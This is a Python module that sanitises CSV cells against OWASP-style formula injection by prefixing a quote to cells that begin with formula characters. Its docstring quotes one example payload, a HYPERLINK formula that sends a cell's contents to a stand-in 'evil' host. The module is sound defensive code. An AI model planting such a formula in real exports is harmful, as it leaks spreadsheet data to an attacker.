"""CSV cells that a spreadsheet will not run as formulas (OWASP "CSV Injection").

Reviewed items carry text from users and models; a cell such as ``=HYPERLINK("http://evil/?"&A1)``
becomes a live formula when the export is opened in Excel, LibreOffice or Google Sheets. Every CSV
this app writes passes its cells through :func:`csv_cell`; JSONL and Parquet keep the raw value.
"""

from __future__ import annotations

import re
from typing import Any

# A leading one of these starts a formula (tab and CR: some spreadsheets trim them and then read on).
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
# A cell that is nothing but a number (e.g. a rating of -1 written as text) computes nothing.
_PLAIN_NUMBER = re.compile(r"[-+]?(\d+(\.\d*)?|\.\d+)([eE][-+]?\d+)?")


def csv_cell(value: Any) -> Any:
    """``value`` as a CSV cell: text that could start a formula gets a leading ``'``, which
    spreadsheets show as text. Numbers, and text that is only a number, are left alone."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS) and not _PLAIN_NUMBER.fullmatch(value):
        return "'" + value
    return value
